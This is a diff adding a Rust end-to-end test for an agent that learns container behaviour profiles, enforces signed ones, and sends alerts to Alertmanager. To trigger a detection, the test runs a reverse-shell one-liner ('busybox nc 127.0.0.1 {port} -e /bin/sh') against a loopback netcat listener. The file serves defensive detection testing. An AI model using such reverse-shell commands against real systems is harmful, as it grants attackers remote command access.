@@ -1,0 +1,374 @@
+//! `imprint-agent --mode enforce` end to end on the real kernel: learn a busybox
+//! container's profile, push, sign and attest it in a real `docker-registry`,
+//! enforce it, and read the alerts back from a real Alertmanager
+//! (`prometheus-alertmanager` on a free loopback port). Root only; skips, saying
+//! why, elsewhere.
+
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+#[allow(dead_code)]
+mod common;
+use common::{Agent, Podman, SERIAL, skip_reason, support, wait_for_profile};
+
+use imprint_oci::keys::{KeyAlgorithm, SigningKey};
+use imprint_oci::layout;
+use imprint_oci::registry::{Registry, parse_reference};
+use imprint_oci::signing::{PROFILE_PREDICATE_TYPE, ProfilePredicate};
+
+struct Alertmanager {
+    child: Child,
+    addr: String,
+    dir: PathBuf,
+}
+
+impl Alertmanager {
+    fn start(dir: &Path, addr: &str) -> Alertmanager {
+        std::fs::create_dir_all(dir.join("data")).unwrap();
+        let config = dir.join("alertmanager.yml");
+        std::fs::write(
+            &config,
+            "route:\n  receiver: none\n  group_wait: 1s\nreceivers:\n  - name: none\n",
+        )
+        .unwrap();
+        let child = Command::new("prometheus-alertmanager")
+            .arg(format!("--config.file={}", config.display()))
+            .arg(format!("--storage.path={}", dir.join("data").display()))
+            .arg(format!("--web.listen-address={addr}"))
+            .arg("--cluster.listen-address=")
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("start prometheus-alertmanager");
+        let am = Alertmanager {
+            child,
+            addr: addr.to_string(),
+            dir: dir.to_path_buf(),
+        };
+        let deadline = Instant::now() + Duration::from_secs(20);
+        while am.alerts().is_none() {
+            assert!(
+                Instant::now() < deadline,
+                "alertmanager did not answer on {addr}"
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        am
+    }
+
+    /// `GET /api/v2/alerts`: the alertnames, or `None` when it does not answer.
+    fn alerts(&self) -> Option<Vec<serde_json::Value>> {
+        use std::io::{Read, Write};
+        let mut c = std::net::TcpStream::connect(&self.addr).ok()?;
+        write!(
+            c,
+            "GET /api/v2/alerts HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
+            self.addr
+        )
+        .ok()?;
+        let mut response = String::new();
+        c.read_to_string(&mut response).ok()?;
+        let body = response.split_once("\r\n\r\n")?.1;
+        // Chunked or not: the JSON array is the part between the outer brackets.
+        let start = body.find('[')?;
+        let end = body.rfind(']')?;
+        serde_json::from_str(&body[start..=end]).ok()
+    }
+
+    fn alertnames(&self) -> Vec<String> {
+        self.alerts()
+            .unwrap_or_default()
+            .iter()
+            .filter_map(|a| a["labels"]["alertname"].as_str().map(str::to_string))
+            .collect()
+    }
+
+    fn stop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Drop for Alertmanager {
+    fn drop(&mut self) {
+        self.stop();
+    }
+}
+
+fn wait_until(what: &str, timeout: Duration, mut ok: impl FnMut() -> bool) {
+    let deadline = Instant::now() + timeout;
+    while !ok() {
+        assert!(Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(250));
+    }
+}
+
+/// Pushes `profile` beside its image, and signs and attests it with `key` when given.
+fn publish(registry: &str, repo: &str, profile_path: &Path, key: Option<&SigningKey>) -> String {
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let profile = imprint_schema::parse_profile(&std::fs::read(profile_path).unwrap()).unwrap();
+    let image = parse_reference(&format!("{registry}/{repo}@{}", profile.image.digest)).unwrap();
+    let client = Registry::new(&Default::default(), &[&image]).unwrap();
+    rt.block_on(async {
+        let subject = client.resolve(&image).await.unwrap();
+        let artifact = layout::build(&profile, &subject, jiff::Timestamp::now()).unwrap();
+        let repository = parse_reference(&format!("{registry}/{repo}")).unwrap();
+        let digest = client
+            .push_artifact(&repository, &artifact, None)
+            .await
+            .unwrap();
+        let at = repository.clone_with_digest(digest.clone());
+        if let Some(key) = key {
+            client
+                .sign(&at, key, false, jiff::Timestamp::now())
+                .await
+                .unwrap();
+            let predicate = ProfilePredicate::for_artifact(
+                &artifact.manifest,
+                &profile,
+                "https://ci.example/imprint/e2e",
+            );
+            client
+                .attest(
+                    &at,
+                    key,
+                    PROFILE_PREDICATE_TYPE,
+                    serde_json::to_value(predicate).unwrap(),
+                    false,
+                    jiff::Timestamp::now(),
+                )
+                .await
+                .unwrap();
+        }
+        digest
+    })
+}
+
+#[test]
+fn verified_profiles_are_enforced_and_alerts_reach_alertmanager() {
+    if let Some(why) = skip_reason() {
+        eprintln!("skipped: {why}");
+        return;
+    }
+    if Command::new("prometheus-alertmanager")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        eprintln!("skipped: prometheus-alertmanager is not installed (bash .ci/setup installs it)");
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let Some(registry) = support::TestRegistry::start() else {
+        return;
+    };
+    let podman = Podman::new();
+    let dir = tempfile::tempdir().unwrap();
+    let (image, digest) = podman.push_busybox(&registry.addr, "shop/enforced", "enforced");
+    let (unsigned_image, unsigned_digest) =
+        podman.push_busybox(&registry.addr, "shop/unsigned", "unsigned");
+    let (bare_image, _) = podman.push_busybox(&registry.addr, "shop/bare", "bare");
+    let normal = "cat /etc/passwd > /dev/null; echo ok > /tmp/out; true";
+
+    // 1. Learn the busybox container's profile (and the unsigned image's).
+    let out = dir.path().join("learned");
+    let learn = Agent::start(&out, &dir.path().join("learn-state"), "4s", &[]);
+    for img in [&image, &unsigned_image] {
+        podman.run(&[
+            "run",
+            "--rm",
+            "--tls-verify=false",
+            img,
+            "/bin/sh",
+            "-c",
+            normal,
+        ]);
+    }
+    let profile_path = out.join(format!("{}.yaml", digest.replace(':', "-")));
+    wait_for_profile(&out, &digest, Duration::from_secs(30), &learn);
+    wait_for_profile(&out, &unsigned_digest, Duration::from_secs(30), &learn);
+    drop(learn);
+
+    // 2. Push, sign and attest it; the other one is pushed unsigned.
+    let key = SigningKey::generate(KeyAlgorithm::EcdsaP256);
+    let public = dir.path().join("cosign.pub");
+    std::fs::write(&public, key.verifying_key().to_pem()).unwrap();
+    publish(&registry.addr, "shop/enforced", &profile_path, Some(&key));
+    publish(
+        &registry.addr,
+        "shop/unsigned",
+        &out.join(format!("{}.yaml", unsigned_digest.replace(':', "-"))),
+        None,
+    );
+
+    // 3. The agent enforces with the key, sending to a real Alertmanager.
+    let am_addr = support::free_loopback_addr();
+    let mut am = Alertmanager::start(&dir.path().join("am"), &am_addr);
+    let state = dir.path().join("enforce-state");
+    let args: Vec<std::ffi::OsString> = vec![
+        "--mode".into(),
+        "enforce".into(),
+        "--key".into(),
+        public.clone().into(),
+        "--alertmanager-url".into(),
+        format!("http://{am_addr}").into(),
+        "--state-dir".into(),
+        state.clone().into(),
+        "--refresh".into(),
+        "2".into(),
+    ];
+    let agent = Agent::spawn(&args);
+
+    // 4. The normal script: the profile gets enforced, and nothing alerts.
+    podman.run(&[
+        "run",
+        "--rm",
+        "--tls-verify=false",
+        &image,
+        "/bin/sh",
+        "-c",
+        normal,
+    ]);
+    agent.wait_for_log(&format!("for {digest}"), Duration::from_secs(30));
+    podman.run(&[
+        "run",
+        "--rm",
+        "--tls-verify=false",
+        &image,
+        "/bin/sh",
+        "-c",
+        normal,
+    ]);
+    std::thread::sleep(Duration::from_secs(3));
+    assert_eq!(am.alertnames(), Vec::<String>::new(), "{}", agent.log());
+
+    // 5. An unexpected exec and a reverse shell to a loopback listener.
+    let port = support::free_loopback_addr()
+        .rsplit_once(':')
+        .unwrap()
+        .1
+        .to_string();
+    let mut listener = Command::new("/bin/busybox")
+        .args(["nc", "-l", "-p", &port])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_millis(300));
+    let attack =
+        format!("/bin/busybox id > /dev/null; /bin/busybox nc 127.0.0.1 {port} -e /bin/sh");
+    let attacker = podman
+        .command()
+        .args([
+            "run",
+            "--rm",
+            "--tls-verify=false",
+            &image,
+            "/bin/sh",
+            "-c",
+            &attack,
+        ])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_secs(2));
+    let _ = listener.kill();
+    let _ = listener.wait();
+    let _ = attacker.wait_with_output();
+    wait_until("alerts in Alertmanager", Duration::from_secs(30), || {
+        let names = am.alertnames();
+        names.contains(&"imprint_reverse_shell".to_string())
+            && names.contains(&"imprint_anomaly_exec".to_string())
+    });
+    let alerts = am.alerts().unwrap();
+    let shell = alerts
+        .iter()
+        .find(|a| a["labels"]["alertname"] == "imprint_reverse_shell")
+        .unwrap();
+    assert_eq!(shell["labels"]["image_digest"], digest.as_str());
+    assert_eq!(shell["labels"]["severity"], "critical");
+    assert!(
+        shell["generatorURL"]
+            .as_str()
+            .unwrap()
+            .contains("reverse-shell")
+    );
+
+    // 6. The unsigned profile is not enforced: its status says why, and an
+    //    unexpected exec in that image raises no anomaly.
+    podman.run(&[
+        "run",
+        "--rm",
+        "--tls-verify=false",
+        &unsigned_image,
+        "/bin/busybox",
+        "id",
+    ]);
+    agent.wait_for_log(
+        &format!("{unsigned_digest}: unsigned"),
+        Duration::from_secs(30),
+    );
+    // 7. An image with no profile of its own (a profile for another digest exists
+    //    in the registry): behaviour rules only.
+    podman.run(&[
+        "run",
+        "--rm",
+        "--tls-verify=false",
+        &bare_image,
+        "/bin/busybox",
+        "id",
+    ]);
+    agent.wait_for_log(": no-profile", Duration::from_secs(30));
+    std::thread::sleep(Duration::from_secs(3));
+    let anomalies: Vec<String> = am
+        .alerts()
+        .unwrap()
+        .iter()
+        .filter(|a| a["labels"]["source"] == "anomaly")
+        .map(|a| {
+            a["labels"]["image_digest"]
+                .as_str()
+                .unwrap_or("")
+                .to_string()
+        })
+        .collect();
+    assert!(anomalies.iter().all(|d| *d == digest), "{anomalies:?}");
+
+    // 8. Alertmanager goes away; alerts raised meanwhile are spooled, and all
+    //    arrive once it is back.
+    am.stop();
+    podman.run(&[
+        "run",
+        "--rm",
+        "--tls-verify=false",
+        &image,
+        "/bin/sh",
+        "-c",
+        "/bin/busybox uname > /dev/null; true",
+    ]);
+    let spool = state.join("spool/alertmanager");
+    wait_until("a spooled batch", Duration::from_secs(20), || {
+        std::fs::read_dir(&spool).map(|d| d.count()).unwrap_or(0) > 0
+    });
+    let am_dir = am.dir.clone();
+    drop(am);
+    let am = Alertmanager::start(&am_dir, &am_addr);
+    wait_until(
+        "the spooled alert in Alertmanager",
+        Duration::from_secs(60),
+        || {
+            am.alerts().unwrap_or_default().iter().any(|a| {
+                a["labels"]["alertname"] == "imprint_anomaly_exec"
+                    && a["annotations"]["subject"]
+                        .as_str()
+                        .is_some_and(|s| s.contains("busybox"))
+                    && a["annotations"]["summary"]
+                        .as_str()
+                        .is_some_and(|s| s.contains("uname"))
+            })
+        },
+    );
+    drop(agent);
+}
